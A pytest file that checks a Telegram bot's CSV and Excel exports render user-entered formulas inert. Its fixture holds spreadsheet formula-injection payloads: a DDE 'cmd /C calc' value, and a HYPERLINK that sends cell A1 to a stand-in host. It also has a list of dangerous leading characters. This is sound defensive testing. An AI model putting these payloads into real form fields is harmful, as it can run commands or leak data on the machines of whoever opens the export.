"""Exports typed by users open inert: no formula runs, from Telegram or the CLI, CSV or XLSX."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from bot.db.models import AllyProfile, Profile
from bot.devapi.harness import Harness, harness
from bot.settings import Settings
from tests.conftest import STAFF_ID
from tests.test_alliances import join
from tests.test_mine import register_first_session
from tests.test_registration import import_cycle
from tests.test_staff_events import _cli

HOSTILE = {
    "full_name": "@SUMA(1+1)*cmd|' /C calc'!A0",
    "email": "=1+1@example.org",
    "organization": '=HYPERLINK("http://x.example/?"&A1,"Ver constancia")',
    "municipality": "-2+3",
    "state": "+52",
    "cluni": "\t=1+1",
}
CR_DESCRIPTION = "\r=1+1 ofrecemos talleres"


@pytest.fixture
async def bot(settings: Settings) -> AsyncIterator[Harness]:
    async with harness(settings) as running:
        await import_cycle(running)
        user = running.user()
        await register_first_session(user)
        await join(running.user(), '=HYPERLINK("http://x.example","Aliado")')
        async with running.app.bot_data["services"].database.sessions.begin() as session:
            await session.execute(update(Profile).where(Profile.user_id == user.id)
                                  .values(**HOSTILE))
            await session.execute(update(AllyProfile).values(description=CR_DESCRIPTION))
        yield running


def csv_cells(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return [cell for row in rows[1:] for cell in row]


def assert_inert_csv(content: bytes, values: list[str]) -> None:
    cells = csv_cells(content)
    for value in values:
        assert f"'{value}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def assert_inert_xlsx(content: bytes, values: list[str]) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert {c.data_type for c in cells} <= {"s", "inlineStr"}  # never "f" (a formula)
    by_value = {c.value: c for c in cells}
    for value in values:
        assert by_value[value].quotePrefix


async def export_in_telegram(bot: Harness, label: str) -> bytes:
    staff = bot.user(STAFF_ID)
    await staff.send("/inscritos")
    reply = await staff.press(label)
    document = reply.messages[-1].document
    assert document is not None
    return document.content


async def test_registrations_csv_from_telegram_is_inert(bot: Harness) -> None:
    assert_inert_csv(await export_in_telegram(bot, "CSV (todas)"), list(HOSTILE.values()))


async def test_registrations_xlsx_from_telegram_is_inert(bot: Harness) -> None:
    assert_inert_xlsx(await export_in_telegram(bot, "Excel (todas)"), list(HOSTILE.values()))


async def test_allies_csv_from_telegram_is_inert(bot: Harness) -> None:
    staff = bot.user(STAFF_ID)
    await staff.send("/aliados_stats")
    reply = await staff.press("Exportar directorio")
    document = reply.messages[-1].document
    assert document is not None
    assert_inert_csv(document.content,
                     ['=HYPERLINK("http://x.example","Aliado")', CR_DESCRIPTION])


@pytest.mark.usefixtures("bot")
async def test_cli_exports_are_inert(database_url: str, tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx"):
        output = tmp_path / f"registros.{fmt}"
        done = _cli("export", "registrations", "--format", fmt, "--output", str(output),
                    url=database_url)
        assert done.returncode == 0, done.stderr
        check = assert_inert_csv if fmt == "csv" else assert_inert_xlsx
        check(output.read_bytes(), list(HOSTILE.values()))
    output = tmp_path / "aliados.csv"
    done = _cli("export", "allies", "--output", str(output), url=database_url)
    assert done.returncode == 0, done.stderr
    assert_inert_csv(output.read_bytes(), [CR_DESCRIPTION])
